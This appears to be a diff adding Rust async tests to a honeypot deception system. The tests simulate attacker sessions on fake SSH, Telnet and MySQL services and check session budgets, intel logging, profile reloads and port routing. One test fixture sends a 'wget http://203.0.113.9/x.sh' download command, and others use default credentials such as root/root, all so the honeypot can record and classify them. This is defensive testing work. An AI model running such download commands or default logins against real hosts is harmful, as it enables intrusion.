+        let connection = Connection::with_memory(peer_addr, server)
+            .with_local_addr(([10, 0, 0, 1], 22).into());
+        let session = Session {
+            strategy: crate::ResponseStrategy::Deep,
+            ..test_session("budget", peer_addr)
+        };
+
+        // Client bleibt offen: nur das Budget kann die Session beenden
+        client.write_all(b"root\nroot\n").await.unwrap();
+        client.write_all(&b"ls -la\n".repeat(500)).await.unwrap();
+        let handled = tokio::time::timeout(
+            Duration::from_secs(3600),
+            system.handle_connection(connection, session),
+        )
+        .await;
+        assert!(handled.expect("budget never enforced").is_ok());
+
+        let mut output = String::new();
+        client.read_to_string(&mut output).await.unwrap();
+        let prompts = output.matches("root@").count();
+        assert!(prompts > 1 && prompts < 500, "{} prompts", prompts);
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_live_ssh_commands_reach_intel() {
+        use crate::honeypots::Connection;
+        use tokio::io::AsyncWriteExt;
+
+        let system = DeceptionSystem::new();
+        system
+            .deploy_honeypot(HoneypotConfig {
+                port: 22,
+                honeypot_type: HoneypotType::Ssh,
+                interaction_level: InteractionLevel::Medium,
+            })
+            .await
+            .unwrap();
+
+        let peer_addr: std::net::SocketAddr = "198.51.100.62:40000".parse().unwrap();
+        let (mut client, server) = tokio::io::duplex(64 * 1024);
+        let connection = Connection::with_memory(peer_addr, server)
+            .with_local_addr(([10, 0, 0, 1], 22).into());
+        let session = test_session("intel", peer_addr);
+
+        client
+            .write_all(b"root\nroot\nuname -a\nwget http://203.0.113.9/x.sh\n")
+            .await
+            .unwrap();
+        client.shutdown().await.unwrap();
+        system.handle_connection(connection, session).await.unwrap();
+
+        let report = system.query_intel(&IntelQuery::ip(peer_addr.ip()));
+        assert_eq!(report.commands, ["uname -a", "wget http://203.0.113.9/x.sh"]);
+        assert_eq!(report.attack_categories.get("malicious_command"), Some(&1));
+        assert_eq!(report.credentials, [("root".to_string(), "root".to_string())]);
+    }
+
+    /// Session, die im SSH-Honeypot hängt, bis der Client schließt
+    async fn hanging_ssh_session(
+        system: &Arc<DeceptionSystem>,
+        id: &str,
+    ) -> (tokio::io::DuplexStream, tokio::task::JoinHandle<Result<(), String>>) {
+        use crate::honeypots::Connection;
+        use tokio::io::AsyncReadExt;
+
+        let peer_addr: std::net::SocketAddr = "203.0.113.70:51000".parse().unwrap();
+        let (mut client, server) = tokio::io::duplex(64 * 1024);
+        let connection =
+            Connection::with_memory(peer_addr, server).with_local_addr(([10, 0, 0, 1], 22).into());
+        let session = test_session(id, peer_addr);
+        let system = system.clone();
+        let task = tokio::spawn(async move {
+            system
+                .handle_connection(connection, session)
+                .await
+                .map_err(|e| e.to_string())
+        });
+
+        // Banner gelesen = Session steckt in `handle()`
+        let mut banner = [0u8; 64];
+        assert!(client.read(&mut banner).await.unwrap() > 0);
+        (client, task)
+    }
+
+    #[tokio::test]
+    async fn test_redeploy_does_not_wait_for_live_sessions() {
+        let definition = |banner: &str| {
+            ServiceDefinition::parse(&format!(
+                "port = 22\nservice_type = \"ssh\"\nbanner = \"{}\"\n",
+                banner
+            ))
+            .unwrap()
+        };
+        let system = Arc::new(DeceptionSystem::new());
+        system
+            .deploy_or_update_honeypot(definition("SSH-2.0-OpenSSH_7.4"))
+            .await
+            .unwrap();
+        let (client, live) = hanging_ssh_session(&system, "live").await;
+
+        // Write-Lock (Update) und neue Sessions laufen trotz offener Session
+        let update = system.deploy_or_update_honeypot(definition("SSH-2.0-OpenSSH_9.6p1"));
+        tokio::time::timeout(Duration::from_secs(2), update)
+            .await
+            .expect("update blocked by live session")
+            .unwrap();
+        let (second, next) = tokio::time::timeout(
+            Duration::from_secs(2),
+            hanging_ssh_session(&system, "next"),
+        )
+        .await
+        .expect("new session blocked");
+        assert_eq!(system.generate_report().await.active_sessions, 2);
+
+        drop((client, second));
+        live.await.unwrap().unwrap();
+        next.await.unwrap().unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_reload_profiles_updates_new_sessions_only() {
+        use crate::interactions::SshInteractionHandler;
+
+        let dir = std::env::temp_dir().join(format!("honeytrap-profiles-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let write_profile = |banner: &str| {
+            std::fs::write(
+                dir.join("ssh.toml"),
+                format!("port = 22\nservice_type = \"ssh\"\nbanner = \"{}\"\n", banner),
+            )
+            .unwrap();
+        };
+
+        let system = DeceptionSystem::new();
+        assert!(system.reload_profiles().await.is_err());
+
+        write_profile("SSH-2.0-OpenSSH_7.4");
+        system.deploy_from_dir(&dir).await.unwrap();
+        let existing = SshInteractionHandler::new("old".to_string())
+            .with_profile(&system.service_definition(22).await.unwrap());
+
+        write_profile("SSH-2.0-OpenSSH_9.6p1");
+        let result = system.reload_profiles().await.unwrap();
+        std::fs::remove_dir_all(&dir).unwrap();
+        assert_eq!(result.deployed, 1);
+
+        let new = SshInteractionHandler::new("new".to_string())
+            .with_profile(&system.service_definition(22).await.unwrap());
+        assert_eq!(new.send_banner().await, "SSH-2.0-OpenSSH_9.6p1");
+        assert_eq!(existing.send_banner().await, "SSH-2.0-OpenSSH_7.4");
+        assert_eq!(system.generate_report().await.honeypot_count, 1);
+    }
+
+    #[tokio::test]
+    async fn test_reload_profiles_while_session_in_flight() {
+        let dir = std::env::temp_dir().join(format!("honeytrap-inflight-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let write_profile = |service_type: &str, banner: &str| {
+            std::fs::write(
+                dir.join("service.toml"),
+                format!(
+                    "port = 22\nservice_type = \"{}\"\nbanner = \"{}\"\n",
+                    service_type, banner
+                ),
+            )
+            .unwrap();
+        };
+
+        let system = Arc::new(DeceptionSystem::new());
+        write_profile("ssh", "SSH-2.0-OpenSSH_7.4");
+        system.deploy_from_dir(&dir).await.unwrap();
+        let (client, live) = hanging_ssh_session(&system, "in-flight").await;
+
+        // Profil-Update und Typwechsel, während die Session noch in `handle()` steckt
+        write_profile("ssh", "SSH-2.0-OpenSSH_9.6p1");
+        let reload = tokio::time::timeout(Duration::from_secs(2), system.reload_profiles());
+        assert_eq!(reload.await.expect("reload blocked").unwrap().deployed, 1);
+        write_profile("http", "Apache/2.4.41");
+        let reload = tokio::time::timeout(Duration::from_secs(2), system.reload_profiles());
+        assert_eq!(reload.await.expect("reload blocked").unwrap().deployed, 1);
+        std::fs::remove_dir_all(&dir).unwrap();
+        assert_eq!(system.honeypot_type(22).await, Some(HoneypotType::Http));
+
+        // Laufende Session endet regulär auf dem alten Honeypot
+        assert_eq!(system.generate_report().await.active_sessions, 1);
+        drop(client);
+        live.await.unwrap().unwrap();
+        assert_eq!(system.generate_report().await.active_sessions, 0);
+    }
+
+    #[tokio::test]
+    async fn test_connection_routed_by_destination_port() {
+        use crate::honeypots::Connection;
+
+        let system = DeceptionSystem::new();
+        for (port, honeypot_type) in [(22, HoneypotType::Ssh), (3306, HoneypotType::Mysql)] {
+            system
+                .deploy_honeypot(HoneypotConfig {
+                    port,
+                    honeypot_type,
+                    interaction_level: InteractionLevel::Low,
+                })
+                .await
+                .unwrap();
+        }
+
+        let peer_addr: std::net::SocketAddr = "203.0.113.66:51000".parse().unwrap();
+        let session = |id: &str| test_session(id, peer_addr);
+        let to_port = |port: u16| {
+            Connection::new(peer_addr).with_local_addr(([10, 0, 0, 1], port).into())
+        };
+
+        system
+            .handle_connection(to_port(3306), session("mysql-route"))
+            .await
+            .unwrap();
+        let report = system.query_intel(&IntelQuery::ip(peer_addr.ip()));
+        assert_eq!(report.total_sessions, 1);
+        assert!(report.services.contains("MySQL"));
+        assert!(!report.services.contains("SSH"));
+
+        // Kein Honeypot auf dem Port bzw. unbekannter Ziel-Port
+        let err = system
+            .handle_connection(to_port(8080), session("unrouted"))
+            .await
+            .unwrap_err();
+        assert!(err.to_string().contains("port 8080"));
+        assert!(system
+            .handle_connection(Connection::new(peer_addr), session("no-port"))
+            .await
+            .is_err());
+        assert_eq!(system.active_sessions.load(Ordering::SeqCst), 0);
+    }
+
+    #[tokio::test]
+    async fn test_unrouted_port_falls_back_to_default_honeypot() {
+        use crate::honeypots::Connection;
+
+        let system = DeceptionSystem::new().with_default_port(3306);
+        system
+            .deploy_honeypot(HoneypotConfig {
+                port: 3306,
+                honeypot_type: HoneypotType::Mysql,
+                interaction_level: InteractionLevel::Low,
+            })
+            .await
+            .unwrap();
+
+        let peer_addr: std::net::SocketAddr = "203.0.113.67:51000".parse().unwrap();
+        let session = |id: &str| test_session(id, peer_addr);
+
+        // Alle QUIC-Verbindungen kommen auf dem Transport-Port an
+        let quic = Connection::new(peer_addr).with_local_addr(([10, 0, 0, 1], 8443).into());
+        system.handle_connection(quic, session("quic")).await.unwrap();
+        system
+            .handle_connection(Connection::new(peer_addr), session("no-port"))
+            .await
+            .unwrap();
+
+        let report = system.query_intel(&IntelQuery::ip(peer_addr.ip()));
+        assert_eq!(report.total_sessions, 2);
+        assert!(report.services.contains("MySQL"));
+    }
+
+    #[tokio::test]
+    async fn test_default_factories_share_credentials_and_decoy() {
+        use crate::honeypots::Connection;
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let system = DeceptionSystem::new().with_decoy_seed(7);
+        system
+            .deploy_honeypot(HoneypotConfig {
+                port: 23,
+                honeypot_type: HoneypotType::Telnet,
+                interaction_level: InteractionLevel::Medium,
+            })
+            .await
+            .unwrap();
+
+        let peer_addr: std::net::SocketAddr = "198.51.100.23:40000".parse().unwrap();
+        let (mut client, server) = tokio::io::duplex(64 * 1024);
+        let connection = Connection::with_memory(peer_addr, server)
+            .with_local_addr(([10, 0, 0, 1], 23).into());
+        let session = test_session("telnet-factory", peer_addr);
+
+        client.write_all(b"root\r\nxc3511\r\nexit\r\n").await.unwrap();
+        system.handle_connection(connection, session).await.unwrap();
+
+        let mut output = Vec::new();
+        client.read_to_end(&mut output).await.unwrap();
+        let hostname = system.decoy_profile(peer_addr.ip()).hostname;
+        assert!(String::from_utf8_lossy(&output).contains(&format!("{} login: ", hostname)));
+
+        let records = system.credential_store().records();
+        assert_eq!(records.len(), 1);
+        assert_eq!(records[0].username, "root");
+        assert!(records[0].services.contains("Telnet"));
+    }
+}